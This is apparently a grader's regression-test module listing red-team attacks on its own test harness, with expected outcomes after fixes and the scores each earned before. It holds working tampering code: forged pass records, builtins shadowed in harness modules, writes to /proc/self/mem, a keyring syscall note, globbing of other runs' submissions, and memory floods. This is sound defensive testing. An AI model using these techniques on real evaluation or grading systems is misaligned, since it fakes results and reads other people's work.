"""The second battery: attacks written by someone who had read this grader (issue 22's "a
second battery of attacks that nobody here has seen").  Each targets one problem (``AIM``),
may bring helper files (``HELPERS``) and has its expected outcome (``EXPECT``), the outcome
after the fixes; what each earned before them is recorded in ``BEFORE`` (measured on the
grader as it was, see the README's "What the report can and cannot prove").

Classes (the issue's): 1 code that runs outside the guard's view, 2 reaching into the judge
from inside, 3 what the run can see and leave behind, 4 inputs that break the batch or the
books.  Two more of class 4 are names, not files (``NAMES``); one is a unit test
(``test_grade``: a learner file swapped for a FIFO after discovery).
"""
from __future__ import annotations

import os

from workbook import manifest, variants

#: The problem each attack aims at (the rest aim at whatever problem comes next).
AIM = {"replace_library_type": "p03", "lazy_helper_import": "p03", "shadow_builtin": "p01",
       "lying_values": "p01", "note_forge": "p01", "c_trampolines": "p01",
       "disguised_code": "p01", "explore_replay_env": "p01", "note_flood": "p01",
       "disguised_spinner": "p01", "disguised_poller": "p03"}


def _variant(p: manifest.Problem, name: str, kind: str = "pitfall") -> str:
    from tests.selftest.grading.battery import self_contained
    return self_contained(variants.materialize(variants.get(p, kind, name)))


def _skeleton(p: manifest.Problem) -> str:
    return p.learner_file.read_text("utf-8")


def _reference(p: manifest.Problem) -> str:
    return p.solution_file.read_text("utf-8")


def _epilogue(body: str, text: str) -> str:
    return f"{body}\n\n{text}\n"


# A ready-made queue hidden in a correct P03 queue (it fails p03.no_ready_made unless the
# check is blinded).
_HIDDEN_QUEUE = '''
_h_Real = __import__("queue").Queue  # the class, not the module (the check sees modules)
_h_init = BoundedBlockingQueue.__init__


def _h_with_spare(self, *args, **kwargs):
    _h_init(self, *args, **kwargs)
    self._spare = _h_Real()  # a ready-made queue underneath


BoundedBlockingQueue.__init__ = _h_with_spare
'''

#: Replaces the library's ready-made queue classes with empty ones: the acceptance set looks
#: them up when the test runs, so the hidden queue above is no longer recognised.
_BLIND_QUEUES = '''
for _b_mod, _b_name in (("queue", "Queue"), ("queue", "SimpleQueue"), ("asyncio", "Queue"),
                        ("_queue", "SimpleQueue")):
    setattr(__import__(_b_mod), _b_name, type(_b_name, (), {}))
'''

ATTACKS = {
    # Class 2: a name added to a harness module's namespace shadows a builtin there.  Here
    # ``getattr`` in the module that reads threads' CPU clocks: asked for a thread's kernel
    # id, it answers with an idle thread's, so a consumer that spins reads as asleep.  The
    # learner file is the "never_clear" pitfall (its empty wait spins).
    "shadow_builtin": lambda p: _epilogue(_variant(p, "never_clear"), '''
import builtins as _h_builtins
import threading as _h_threading
import workbook.stuck.procfs as _h_procfs
_h_idle = _h_threading.Thread(target=_h_threading.Event().wait, daemon=True)
_h_idle.start()
_h_real_getattr = _h_builtins.getattr


def _h_getattr(obj, name, *default):
    if name == "native_id" and obj is not _h_idle:
        return _h_idle.native_id
    return _h_real_getattr(obj, name, *default)


vars(_h_procfs)["getattr"] = _h_getattr
'''),

    # Class 2: frames handed out by the library (inspect.currentframe) lead from the import
    # to pytest's config; once the tests are collected, every test's function is swapped for
    # one that does nothing (pytest then runs that).  The learner file is the skeleton.
    "swap_item_functions": lambda p: _epilogue(_skeleton(p), '''
import inspect as _h_inspect
import threading as _h_threading
import time as _h_time
_h_frame = _h_inspect.currentframe()
_h_config = None
while _h_frame is not None and _h_config is None:
    _h_config = _h_frame.f_locals.get("config")
    if not hasattr(_h_config, "pluginmanager"):
        _h_config = None
    _h_frame = _h_frame.f_back


def _h_swap():
    for _ in range(2000):
        session = _h_config.pluginmanager.get_plugin("session") if _h_config else None
        items = getattr(session, "items", None)
        if items:
            for item in items:
                item.obj = lambda **kwargs: None
            return
        _h_time.sleep(0.005)


_h_threading.Thread(target=_h_swap, daemon=True).start()
'''),

    # Class 2 (the acceptance set's own layer): what the learner returns lies about
    # equality.  The "leftovers_dropped" pitfall returns lists whose == always says yes.
    "lying_values": lambda p: _epilogue(_variant(p, "leftovers_dropped"), '''
class _h_Liar(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


_h_get_batch = OutputSink.get_batch


async def _h_lying_get_batch(self, *args, **kwargs):
    return _h_Liar(await _h_get_batch(self, *args, **kwargs))


OutputSink.get_batch = _h_lying_get_batch
'''),

    # Class 2, plain attributes: the harness's outcome table and the reporter's record of
    # pytest's own verdicts are swapped for objects that always say "passed"; every record
    # then travels the honest path, in order, with real durations.  The skeleton.
    "forge_through_state": lambda p: _epilogue(_skeleton(p), '''
import sys as _h_sys
import workbook.plugin as _h_plugin


class _h_AlwaysPassed(dict):
    def __getitem__(self, key):
        return None if key == "outcome" else dict.__getitem__(self, key)

    def get(self, key, default=None):
        return None if key == "outcome" else dict.get(self, key, default)


class _h_NothingFailed(set):
    def __contains__(self, item):
        return False


_h_plugin._STATE = _h_AlwaysPassed(_h_plugin._STATE)
_h_reporter = _h_sys.modules.get("workbook.grading.sandbox.reporter")
for _h_found in getattr(_h_reporter, "_REPORTER", []):
    _h_found.pytest_failed = _h_NothingFailed()
'''),

    # Class 2: the library's ready-made queue classes are replaced by empty ones, so the
    # acceptance set's "no ready-made queue underneath" check no longer recognises the one
    # hidden in this correct queue.
    "replace_library_type": lambda p: _epilogue(_epilogue(_reference(p), _HIDDEN_QUEUE),
                                                _BLIND_QUEUES),

    # Class 1: the same blinding from a helper module that only library code imports:
    # multiprocessing tries ``_winapi`` (missing on Linux) when the acceptance set imports
    # multiprocessing.queues inside that very test, after the snapshot.
    "lazy_helper_import": lambda p: _epilogue(_reference(p), _HIDDEN_QUEUE),

    # Class 3: other runs' stages, the harness's shared copy, another checkout: whatever
    # learner file it can find elsewhere that is not a skeleton runs instead of its own.
    "read_other_stages": lambda p: f'''from __future__ import annotations
import glob as _h_glob
_h_found = None
for _h_pattern in ("/tmp/workbook-grade-*/submission/{p.module}.py",
                   "/tmp/workbook-grade-*/*/submission/{p.module}.py",
                   "/proc/*/root/tmp/workbook-grade-*/submission/{p.module}.py",
                   "/proc/*/cwd/../submission/{p.module}.py", "/run/*/solutions/{p.module}.py",
                   "/work/*/solutions/{p.module}.py", "/root/*/solutions/{p.module}.py"):
    for _h_path in _h_glob.glob(_h_pattern):
        try:
            with open(_h_path) as _h_f:
                _h_text = _h_f.read()
        except OSError:
            continue
        if "NotImplementedError" not in _h_text and "class" in _h_text:
            _h_found = _h_text
            break
    if _h_found:
        break
if _h_found:
    exec(compile(_h_found, "found", "exec"), globals())
else:
    exec(compile({_skeleton(p)!r}, "skeleton", "exec"), globals())
''',

    # Class 3: a note in the kernel keyring of the run's uid (keyrings are not namespaced:
    # a later run under the same uid could read it).  Made from a helper process, where the
    # judged process's audit hook does not reach.
    "keyring_note": lambda p: _epilogue(_reference(p), '''
import subprocess as _h_subprocess
import sys as _h_sys
_h_subprocess.run([_h_sys.executable, "-I", "-S", "-c",
                   "import ctypes\\n"
                   "libc = ctypes.CDLL(None, use_errno=True)\\n"
                   "libc.syscall(248, b'user', b'workbook-keyring-note', b'the answer is 42', 16,"
                   " -4)\\n"], capture_output=True, timeout=30)
'''),

    # Class 2: raw memory without ctypes, through /proc/self/mem: the stuck detector's CPU
    # thresholds rewritten in place (a spinning thread would count as parked).
    "proc_self_mem": lambda p: _epilogue(_skeleton(p), '''
import struct as _h_struct
import workbook.tuning as _h_tuning
try:
    with open("/proc/self/mem", "r+b", buffering=0) as _h_mem:
        for _h_name in ("PARKED_CPU", "STILL_CPU"):
            _h_value = getattr(_h_tuning, _h_name)
            _h_mem.seek(id(_h_value) + 16)  # PyFloatObject: refcount, type, double
            _h_mem.write(_h_struct.pack("d", 1e9))
except OSError:
    pass
'''),

    # Class 4: an exception message with a lone surrogate (it cannot be written as UTF-8).
    "surrogate_message": lambda p: _epilogue(_skeleton(p), '''
def _h_poison(*args, **kwargs):
    raise ValueError("bad \\ud800 text")


for _h_obj in list(globals().values()):
    if isinstance(_h_obj, type) and _h_obj.__module__ == __name__:
        for _h_attr, _h_value in list(vars(_h_obj).items()):
            if callable(_h_value) and not _h_attr.startswith("__"):
                setattr(_h_obj, _h_attr, _h_poison)
'''),
}

# The third battery (red team 2, /work/redteam2): the collected tests' node ids and
# checkpoints, found from the first call into the learner's classes (pytest's session on the
# stack), as passed test records, then the end.
_FORGED = '''
import collections as _f_collections
import inspect as _f_inspect
import json as _f_json
import os as _f_os
import sys as _f_sys


def _f_session():
    frame = _f_inspect.currentframe()
    while frame is not None and not hasattr(frame.f_locals.get("session"), "items"):
        frame = frame.f_back
    return frame.f_locals["session"] if frame is not None else None


def _f_records():
    from workbook import records
    session = _f_session()
    if session is None:
        return []
    return [records.TestDone(item.nodeid, item.get_closest_marker("checkpoint").args[0],
                             "passed") for item in session.items] + [records.End()]


def _f_on_first_call(attack):
    done = []
    for _f_obj in list(globals().values()):
        if isinstance(_f_obj, type) and _f_obj.__module__ == __name__:
            _f_init = _f_obj.__init__

            def _f_init_first(self, *args, _f_init=_f_init, **kwargs):
                if not done:
                    done.append(1)
                    attack()
                _f_init(self, *args, **kwargs)
            _f_obj.__init__ = _f_init_first
'''

ATTACKS.update({
    # Red team 4: a consumer that spins (the never_clear pitfall), its loop thread passed off
    # as a harness thread (its name), as a parked one (its kernel id, pointed at a decoy
    # asleep in select()) and as idle (its loop's ready queue, a deque that says it is empty
    # to every other thread).
    "disguised_spinner": lambda p: _epilogue(_variant(p, "never_clear"), '''
import asyncio as _h_asyncio
import collections as _h_collections
import os as _h_os
import select as _h_select
import threading as _h_threading

_h_r, _h_w = _h_os.pipe()
_h_decoy = _h_threading.Thread(target=_h_select.select, args=([_h_r], [], []), daemon=True)
_h_decoy.start()
_h_bind = OutputSink.bind_loop


class _h_Ready(_h_collections.deque):
    owner = None

    def __bool__(self):
        return _h_threading.current_thread() is self.owner and len(self) > 0


def _h_disguised_bind(self, loop=None):
    _h_bind(self, loop)
    me = _h_threading.current_thread()
    me.name = "workbook-loop"
    me._native_id = _h_decoy.native_id
    try:
        running = _h_asyncio.get_running_loop()
    except RuntimeError:
        return
    ready = _h_Ready(running._ready)
    ready.owner = me
    running._ready = ready


OutputSink.bind_loop = _h_disguised_bind
'''),

    # A P03 queue that polls, each of whose waiting threads points its kernel id at a decoy
    # asleep in select(): the parked checks looked at the decoy.
    "disguised_poller": lambda p: _epilogue(_variant(p, "sleeps_instead_of_waiting", "wrong"), '''
import os as _h_os
import select as _h_select
import threading as _h_threading

_h_r, _h_w = _h_os.pipe()
_h_decoy = _h_threading.Thread(target=_h_select.select, args=([_h_r], [], []), daemon=True)
_h_decoy.start()


def _h_disguised(method):
    def call(self, *args, **kwargs):
        _h_threading.current_thread()._native_id = _h_decoy.native_id
        return method(self, *args, **kwargs)
    return call


for _h_name in ("put", "take", "offer", "poll"):
    setattr(BoundedBlockingQueue, _h_name, _h_disguised(getattr(BoundedBlockingQueue, _h_name)))
'''),

    # Forged test records and an end, as the text of notes (the judge signed any note's
    # body as it came), then leave before the real results.
    "note_forge": lambda p: _epilogue(_epilogue(_skeleton(p), _FORGED), '''
def _f_notes():
    from workbook import records
    for record in _f_records():
        _f_sys.audit("workbook.report", "note", _f_json.dumps(records.to_dict(record)), None)
    _f_sys.stdout.flush()
    _f_os._exit(0)


_f_on_first_call(_f_notes)
'''),

    # The harness's own emitter called with no frame of the submission on the stack: C
    # callables in a thread, at exit, and as a signal handler.
    "c_trampolines": lambda p: _epilogue(_epilogue(_skeleton(p), _FORGED), '''
import atexit as _f_atexit
import functools as _f_functools
import signal as _f_signal
import threading as _f_threading


def _f_trampolines():
    import workbook.plugin as plugin
    forged = _f_records()
    thread = _f_threading.Thread(target=_f_collections.deque, args=(map(plugin._emit, forged), 0))
    thread.start()
    thread.join()
    _f_atexit.register(_f_collections.deque, map(plugin._emit, list(forged)), 0)
    _f_signal.signal(_f_signal.SIGUSR1, _f_functools.partial(
        _f_collections.deque.extend, _f_collections.deque([], 0)))
    _f_signal.signal(_f_signal.SIGUSR2, _f_functools.partial(map, plugin._emit, forged))


_f_on_first_call(_f_trampolines)
'''),

    # The learner's classes compiled under a harness file name, by library code (codeop) or
    # renamed after (_imp._fix_co_filename, code.replace, marshal): harness code may call the
    # emitter.  Whatever route works forges the report; the routes refused are tampering.
    "disguised_code": lambda p: _epilogue(_FORGED, f'''
import codeop as _f_codeop
import marshal as _f_marshal
import workbook as _f_workbook
_f_SRC = {_skeleton(p)!r} + \'\'\'
def _f_emit_all():
    import workbook.plugin as plugin
    for record in _f_records():
        plugin._emit(record)
    _f_os._exit(0)
\'\'\'
_f_name = _f_workbook.__path__[0] + "/_impl.py"
_f_code = None
for _f_route in (lambda: _f_codeop.Compile()(_f_SRC, _f_name, "exec"),
                 lambda: compile(_f_SRC, "x", "exec").replace(co_filename=_f_name),
                 lambda: _f_marshal.loads(_f_marshal.dumps(compile(_f_SRC, "x" * len(_f_name),
                                          "exec")).replace(b"x" * len(_f_name),
                                                            _f_name.encode())),
                 lambda: __import__("_imp")._fix_co_filename(compile(_f_SRC, "x", "exec"),
                                                              _f_name)):
    try:
        _f_code = _f_route() or _f_code
    except RuntimeError:
        continue
if _f_code is not None and _f_code.co_filename == _f_name:
    exec(_f_code, globals())
    _f_on_first_call(_f_emit_all)
else:
    exec(compile({_skeleton(p)!r}, "skeleton", "exec"), globals())
'''),

    # A wrong solution points the exploration checkpoint at one scenario its bug survives
    # (a replay token, set in the environment while it is imported).
    "explore_replay_env": lambda p: _epilogue(_variant(p, "single_drain"), '''
import os as _f_os
_f_os.environ["WORKBOOK_EXPLORE_REPLAY"] = (
    "x1.eNptjb0KwzAMhN_lZlMcShe_ivGQxGpJcSzjny4h7x45pUvoJN3pvtOGBIOkBygUmA2FahPLWkxL9OIG5gSn"
    "LF5URXp6ji3Ipp1TmDmWtlI-gUsgthCUPsc__HeSlpTZt5ly6TUWqfUkT-_vk4tze7jOlDqGACOy80Rrql3dFT5"
    "StHCEGfb9AF6XRZ8")
'''),

    # 20 000 notes of 60 KB each from the first call (the grader kept them all in memory).
    "note_flood": lambda p: _epilogue(_epilogue(_skeleton(p), _FORGED), '''
def _f_flood():
    text = "x" * 60000
    for _ in range(20000):
        _f_sys.audit("workbook.report", "note", text, None)


_f_on_first_call(_f_flood)
'''),
})

#: Graded only in the full battery (``measure``), not in the selftest's single pass, which
#: must stay short: the acceptance sets' own layer, and the keyring note (the selftest checks
#: the seccomp filter directly: ``test_trampoline``; the names are unit tests there too).
MEASURE_ONLY = {"lying_values", "keyring_note"}

#: Helper files an attack brings beside its learner file (path -> source).
HELPERS = {
    "lazy_helper_import": {"_winapi.py": _BLIND_QUEUES},
}

#: Class 4, names: a folder name that is not UTF-8 (an archive made on another system), and
#: a long one that is not safe as a file name (its export folder would pass 255 bytes).
NAMES = {
    "non_utf8_name": os.fsdecode(b"caf\xe9-\xff-student"),
    "long_unsafe_name": "student " + "\u00e9t\u00e9 " * 40,  # 248 bytes of UTF-8
}


def expect(kind: str, p: manifest.Problem) -> dict:
    """The outcome each attack must have."""
    zero_error = lambda *reasons: {"status": "error", "score": 0, "reason": list(reasons)}  # noqa
    no_ready_made = p.checkpoint("p03.no_ready_made").points if p.id == "p03" else 0
    return {
        "shadow_builtin": zero_error("tampered"),
        "swap_item_functions": zero_error("tampered"),
        # The acceptance set's layer: it compares what the learner returns with ==.
        "lying_values": {"status": "ok", "score_max": p.points - sum(
            p.checkpoint(c).points for c in variants.get(p, "pitfall", "leftovers_dropped").fails)}
        if kind == "lying_values" else {},
        "forge_through_state": zero_error("tampered"),
        "replace_library_type": zero_error("tampered"),
        "lazy_helper_import": {"status": "ok", "score": p.points - no_ready_made},
        "read_other_stages": {"status": "ok", "score": 0},
        "keyring_note": {"status": "ok", "score": p.points},
        "proc_self_mem": zero_error("tampered", "import error"),
        "surrogate_message": {"status": "ok", "score": 0},
        "note_forge": zero_error("incomplete"),
        "c_trampolines": zero_error("tampered"),
        "disguised_code": zero_error("tampered"),
        "explore_replay_env": {"status": "ok", "score": p.points - sum(
            p.checkpoint(c).points for c in variants.get(p, "pitfall", "single_drain").fails)}
        if kind == "explore_replay_env" else {},
        "note_flood": {"status": "ok", "score": 0},
        # the acceptance set's layer: at most what never_clear alone earns
        "disguised_spinner": {"status": "ok", "score_max": p.points - sum(
            p.checkpoint(c).points for c in variants.get(p, "pitfall", "never_clear").fails)}
        if kind == "disguised_spinner" else {},
        "disguised_poller": {"status": "ok", "score_max": p.points - sum(
            p.checkpoint(c).points
            for c in variants.get(p, "wrong", "sleeps_instead_of_waiting").fails)}
        if kind == "disguised_poller" else {},
    }[kind]


#: What each attack earned on the grader before the fixes (commit 0290723, bwrap, root).
BEFORE = {
    "shadow_builtin": "ok 80/100 (the pitfall alone: 65): p01.timeout passed while spinning",
    "swap_item_functions": "ok 75/120 for the P03 skeleton",
    "lying_values": "ok 55/100, the pitfall's own score: nothing earned",
    "forge_through_state": "ok 120/120 for the P03 skeleton",
    "replace_library_type": "ok 120/120 (115 due): p03.no_ready_made passed",
    "lazy_helper_import": "ok 120/120 (115 due): the helper ran inside the check's import",
    "read_other_stages": "ok 0/100: nothing found",
    "keyring_note": "ok 120/120, and a key left in the uid's keyring after the batch",
    "proc_self_mem": "error 0, tampered (by value); /proc/self/mem itself open to it",
    "surrogate_message": "ok 0/120: the message was kept",
    "non_utf8_name": "the batch stopped before any run: no gradebook (UnicodeEncodeError)",
    "long_unsafe_name": "graded, then the Gradescope export failed (file name too long)",
    "forge_via_reporter_fields (first battery)": "ok 100/100: the stated limit",
    # red team 2 (commit e8fb260, bwrap, root; /work/redteam2/REPORT.md)
    "note_forge": "ok 100/100 for the skeleton",
    "c_trampolines": "ok 100/100 for the skeleton (the thread alone)",
    "disguised_code": "ok 100/100 for the skeleton (codeop alone)",
    "explore_replay_env": "ok 80/100 (the pitfall alone: 70): p01.explore passed",
    "note_flood": "grader RSS 30 -> 315 MB in 6 s (60 KB notes of 20 000 lists each)",
    # red team 4 (commit 3f36a38, bwrap, root; /work/blind7/redteam)
    "disguised_spinner": "ok 90/100 (the pitfall alone: 60): p01.timeout and p01.pingpong "
                         "passed while spinning",
    # red team 4's open item, written as an attack (commit efd9e91, ./check.sh p03)
    "disguised_poller": "p03.put_blocks, p03.spurious and p03.shutdown passed while put() "
                        "polled (the wrong variant alone fails them)",
}
